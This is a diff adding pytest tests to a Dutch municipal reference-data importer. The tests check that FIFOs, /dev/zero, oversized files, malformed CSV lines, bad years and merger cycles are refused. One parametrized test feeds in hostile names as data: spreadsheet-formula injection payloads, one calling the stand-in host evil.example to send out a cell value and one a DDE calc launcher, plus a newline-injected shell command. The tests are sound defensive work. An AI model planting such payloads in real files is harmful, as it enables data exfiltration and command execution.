@@ -4,6 +4,7 @@ and a missing year named instead of defaulted."""
 from __future__ import annotations
 
 import csv
+import os
 import re
 from functools import partial
 from pathlib import Path
@@ -189,3 +190,82 @@ def test_cli_imports_report_and_a_refused_one_exits_1_and_is_logged(tmp_path):
     assert "carry-forward of 2025" in listing[-1]
     log = (home / "logs" / "reference.log").read_text().splitlines()
     assert len(log) == 3 and "refused:" in log[0] and "imported from" in log[1] and "carried forward" in log[2]
+
+
+def test_a_reference_file_is_a_bounded_regular_file_or_refused_at_once(con, tmp_path, monkeypatch):
+    """A FIFO never hangs the import, /dev/zero is never read to the end, a directory or an oversized file is
+    refused before it is parsed; a malformed CSV line (a bare CR in a quoted field) is a finding with its line."""
+    fifo = tmp_path / "fifo.csv"
+    os.mkfifo(fifo)
+    monkeypatch.setattr(referentie, "MAX_REFERENCE_BYTES", 1000)
+    big = tmp_path / "big.csv"
+    big.write_text("vt_code,vt_naam\n" + "VT01,x\n" * 200)
+    cr = tmp_path / "cr.csv"
+    cr.write_bytes(b"vt_code,vt_naam\nVT01,Amsterdam\nVT02,\"Dren\rthe\"x\n")
+    long = tmp_path / "long.csv"
+    long.write_text('vt_code,vt_naam\nVT01,Amsterdam\nVT02,"' + "D" * 300 + '"\n')
+    limit = csv.field_size_limit(200)  # what the csv module refuses, whatever the limit: a finding with its line
+    try:
+        for path, problem in ((fifo, "not a regular file (a directory, FIFO, socket or device): refused"),
+                              (Path("/dev/zero"), "not a regular file"), (tmp_path, "not a regular file"),
+                              (big, "larger than 0 MiB, far more than any reference list: refused"),
+                              (cr, "the file refused, nothing changed\n  vt_naam has a control character"),
+                              (long, "line 3: not a valid CSV line (field larger than field limit (200))")):
+            with pytest.raises(referentie.ReferenceError, match=re.escape(f"{path}: {problem}")):
+                referentie.import_regios(con, 2025, path)
+    finally:
+        csv.field_size_limit(limit)
+
+
+@pytest.mark.parametrize("value,problem", [
+    ("Groningen\nHOST COMMAND=['touch /tmp/x'].", "gemeentenaam has a control character"),
+    ("Gro\x00ningen", "gemeentenaam has a control character"),
+    ("Gro\tningen", "gemeentenaam has a control character"),
+    ('=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "gemeentenaam starts with one of = + - @"),
+    ("=cmd|' /C calc'!A0", "gemeentenaam starts with one of = + - @"),
+    ("@SUM(1+1)", "gemeentenaam starts with one of = + - @"),
+    ("G" * 101, "gemeentenaam is longer than 100 characters"),
+])
+def test_a_hostile_or_absurd_name_is_refused_with_its_line(con, tmp_path, value, problem):
+    rows = [dict(r, gemeentenaam=value) if r["gemeentecode"] == "0014" else r for r in GEMEENTEN_2024]
+    path = gebieden(tmp_path / "g.csv", rows)
+    line = 1 + next(i for i, r in enumerate(rows, start=1) if r["gemeentecode"] == "0014")
+    before = snapshot(con)
+    with pytest.raises(referentie.ReferenceError) as info:
+        referentie.import_gemeenten(con, 2025, path)
+    lines = str(info.value).splitlines()
+    assert lines[0] == f"{path}: the file refused, nothing changed" and len(lines) == 2
+    assert lines[1].startswith(f"  {problem}") and lines[1].endswith(f"; line {line}"), lines[1]
+    assert snapshot(con) == before
+
+
+def test_years_outside_2019_to_2100_and_merger_chains_on_one_date_are_refused(con, tmp_path):
+    good = gebieden(tmp_path / "g.csv", GEMEENTEN_2024)
+    for jaar in (99999, 100000, 2101, 2018):
+        with pytest.raises(referentie.ReferenceError, match=r"reference data is for the years 2019 to 2100"):
+            referentie.import_gemeenten(con, jaar, good)
+    referentie.import_gemeenten(con, 2025, good)
+    before = snapshot(con)
+    cycle = mergers(tmp_path / "cycle.csv", [("2025-01-01", "0014", "Groningen", "0034", "Almere", "N"),
+                                             ("2025-01-01", "0034", "Almere", "0014", "Groningen", "N")])
+    chain = mergers(tmp_path / "chain.csv", [("2025-01-01", "0014", "Groningen", "0034", "Almere", "N"),
+                                             ("2025-01-01", "0034", "Almere", "0037", "Stadskanaal", "N")])
+    for path in (cycle, chain):
+        with pytest.raises(referentie.ReferenceError, match=re.escape(
+                "on 2025-01-01 a gemeente is both merged away and a successor (0014, 0034)" if path == cycle else
+                "on 2025-01-01 a gemeente is both merged away and a successor (0034)")):
+            referentie.import_herindelingen(con, path)
+        assert snapshot(con) == before
+    # against a merger already in the warehouse too: its successor cannot merge away on the same date
+    referentie.import_herindelingen(con, mergers(tmp_path / "one.csv", [
+        ("2025-01-01", "0014", "Groningen", "0034", "Almere", "N")]))
+    with pytest.raises(referentie.ReferenceError, match="both merged away and a successor"):
+        referentie.import_herindelingen(con, mergers(tmp_path / "two.csv", [
+            ("2025-01-01", "0034", "Almere", "0037", "Stadskanaal", "N")]))
+
+
+def test_absurd_years_are_usage_errors(tmp_path):
+    for args in (("reference", "add-gemeenten", "--year", "99999", "x.csv"), ("releases", "--years", "2019:99999"),
+                 ("verify", "9999V9")):
+        proc = vt(*args, home=tmp_path / "wh")
+        assert proc.returncode == 2 and "Traceback" not in proc.stderr, (args, proc.stderr)
